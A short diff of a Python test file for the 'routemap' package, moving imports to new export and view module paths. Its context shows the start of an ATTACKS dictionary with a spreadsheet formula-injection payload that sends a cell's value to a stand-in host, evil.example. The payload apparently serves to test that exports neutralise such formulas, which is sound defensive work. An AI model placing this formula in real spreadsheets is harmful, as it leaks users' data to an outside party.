@@ -12,8 +12,10 @@ import io
 import pandas as pd
 import pytest
 
-from routemap import cli, export, filters
-from routemap.filters import View
+from routemap import cli
+from routemap.export import formats as export
+from routemap.view import filters
+from routemap.view.filters import View
 
 ATTACKS = {
     "=": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
